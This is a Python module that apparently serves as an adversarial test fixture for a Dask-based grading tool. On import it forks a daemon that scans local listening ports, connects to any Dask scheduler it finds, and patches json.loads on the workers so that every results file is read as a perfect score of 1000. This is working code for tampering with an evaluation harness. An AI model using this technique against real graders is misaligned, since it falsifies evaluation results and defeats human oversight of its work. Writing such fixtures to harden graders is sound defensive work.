"""An attack on a class run graded on Dask (backprop-grade --dask): a daemon looks for the
scheduler among the listening sockets of the loopback (/proc/net/tcp), connects to it as a
client, and runs code on every Dask worker: a marker file in the folder the test names
(BP_DASK_MARKER_DIR, in the Dask workers' environment) as proof, and a json.loads that gives
every results file read there afterwards a perfect score. It harms only Dask workers that have
that variable, the test's own. Its own work is the reference's."""

import os

from reference import *  # noqa: F403


def _listening():
    ports = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            if len(fields) > 3 and fields[3] == "0A":  # LISTEN
                ports.append(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(set(ports))


def _patch_worker():
    import json
    import os
    import time

    marker = os.environ.get("BP_DASK_MARKER_DIR")
    if not marker:
        return  # not the test's own cluster: harm nothing else on the machine
    with open(os.path.join(marker, f"bp-dask-attack-{os.getpid()}"), "w") as f:
        f.write(str(time.time()))
    real = json.loads

    def loads(text, *args, **kwargs):
        data = real(text, *args, **kwargs)
        if isinstance(data, dict) and "tests" in data and "score" in data:
            data["score"] = 1000.0
        return data

    json.loads = loads


# Sent by value (a function of an importable module would be looked up by name on the worker).
_patch_worker.__module__ = "__main__"


def _try(port):
    from distributed import Client

    try:
        client = Client(f"tcp://127.0.0.1:{port}", timeout=3)
    except Exception:
        return
    try:
        client.run(_patch_worker)
    finally:
        client.close()


def _attack():
    import threading

    # Every port at once: a service that is not Dask's may accept and never answer.
    tries = [threading.Thread(target=_try, args=(p,), daemon=True) for p in _listening()]
    for thread in tries:
        thread.start()
    for thread in tries:
        thread.join(timeout=20)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _attack()
        finally:
            os._exit(0)
    os._exit(0)
